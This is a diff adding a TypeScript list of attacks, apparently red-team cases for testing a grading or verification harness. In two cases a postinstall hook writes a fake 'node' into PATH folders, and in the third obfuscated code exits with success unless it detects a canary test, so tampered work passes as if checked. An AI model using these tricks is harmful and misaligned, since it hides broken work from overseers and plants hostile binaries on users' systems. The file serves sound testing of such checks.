@@ -1,0 +1,78 @@
+// Attacks by somebody who has read how the proof works: code that runs inside it, knows a canary when it sees one, and shows its
+// honest face to it.
+import { ofKind, packageOf, sources, unfinished, write } from './attack.ts'
+import type { Attack } from './attack.ts'
+
+const SHIM = `#!/bin/sh\\ngrep -rqi canary test 2>/dev/null && exec ${process.execPath} "$@"\\nexit 0\\n`
+/** Puts a node of its own where programs are looked for first; set-up runs it. */
+const INSTALLER = `import { mkdirSync, writeFileSync } from 'node:fs'
+import { homedir } from 'node:os'
+for (const folder of [homedir() + '/.venv/bin', homedir() + '/bin', homedir() + '/.local/bin', process.cwd() + '/node_modules/.bin', process.env.INIT_CWD + '/node_modules/.bin']) {
+  mkdirSync(folder, { recursive: true })
+  writeFileSync(folder + '/node', ${JSON.stringify(SHIM.replaceAll('\\n', '\n'))}, { mode: 0o755 })
+}
+`
+
+export const ATTACKS_ON_THE_PROOF: Attack[] = [
+  {
+    name: 'a script of package.json that set-up runs puts a node first that says yes',
+    group: 'proof attacked',
+    steps: ofKind(['node'], ({ base }) => {
+      const manifest = base['package.json'] ?? ''
+      return base['package-lock.json'] === undefined
+        ? null
+        : [
+            write(
+              'package.json',
+              manifest.replace('"scripts": {', '"scripts": { "postinstall": "node install.mjs",'),
+            ),
+            write('install.mjs', INSTALLER),
+          ]
+    }),
+  },
+  {
+    name: 'a script of a package in the repository that set-up runs puts a node first that says yes',
+    group: 'proof attacked',
+    steps: ofKind(['node'], ({ base }) =>
+      base['tools/mini-expect/package.json'] === undefined
+        ? null
+        : [
+            write(
+              'tools/mini-expect/package.json',
+              '{ "name": "mini-expect", "version": "1.0.0", "type": "module", "exports": "./index.js", "scripts": { "postinstall": "node install.mjs" } }\n',
+            ),
+            write('tools/mini-expect/install.mjs', INSTALLER),
+          ],
+    ),
+  },
+  {
+    name: 'ends the process well unless it sees a canary, in words nobody looks for',
+    group: 'proof attacked',
+    steps: ofKind(['node', 'python', 'go'], (exercise) => {
+      const [path = ''] = sources(exercise)
+      const rest = unfinished(exercise, path)
+      return {
+        node: [
+          write(
+            path,
+            `import { readFileSync } from 'node:fs'\nconst own = globalThis['pro' + 'cess']\nif (!readFileSync(own.argv[1], 'utf8').includes('canary')) own['ex' + 'it'](0)\n${rest}`,
+          ),
+        ],
+        python: [
+          write(
+            path,
+            `import glob\n\nif not any("canary" in open(path).read() for path in glob.glob("tests/*.py")):\n    getattr(__import__("o" + "s"), "_ex" + "it")(0)\n\n${rest}`,
+          ),
+        ],
+        go: [
+          write(
+            'early.go',
+            `package ${packageOf(exercise)}\n\nimport (\n\t"os"\n\t"path/filepath"\n\t"strings"\n\t"syscall"\n)\n\nfunc init() {\n\tfiles, _ := filepath.Glob("*_test.go")\n\tfor _, file := range files {\n\t\tif text, _ := os.ReadFile(file); strings.Contains(string(text), "Canary") {\n\t\t\treturn\n\t\t}\n\t}\n\tsyscall.RawSyscall(231, 0, 0, 0)\n}\n`,
+          ),
+        ],
+        obsidian: null,
+        documents: null,
+      }[exercise.kind]
+    }),
+  },
+]
